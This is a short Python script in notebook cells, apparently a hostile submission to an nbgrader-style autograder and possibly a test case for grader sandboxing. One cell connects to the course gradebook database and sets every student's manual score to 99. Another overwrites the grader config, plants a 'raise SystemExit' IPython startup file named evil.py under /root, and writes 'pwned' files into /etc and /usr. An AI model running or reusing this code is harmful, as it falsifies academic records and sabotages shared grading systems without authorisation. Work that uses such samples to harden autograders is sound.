"""Writes 99 points for everyone into the gradebook, rewrites the config and the startup files."""
# points: 0
# %% add
import pathlib
import sqlite3

for path in ["COURSE_ROOT/autograder/gradebook.db", "autograder/gradebook.db", "../gradebook.db"]:
    try:
        book = sqlite3.connect(path)
        book.execute("update grade set manual_score = 99")
        book.commit()
    except Exception as error:
        print(error)
# %% Box
for path in ["COURSE_ROOT/nbgrader_config.py", "COURSE_ROOT/pwned", "/root/.ipython/profile_default/startup/evil.py", "/etc/pwned", "/usr/pwned"]:
    try:
        pathlib.Path(path).parent.mkdir(parents=True, exist_ok=True)
        pathlib.Path(path).write_text("raise SystemExit")
        print("WROTE" if not path.startswith(("/root", "/tmp")) and not "COURSE_ROOT".startswith("/tmp") else "")
    except Exception as error:
        print(error)
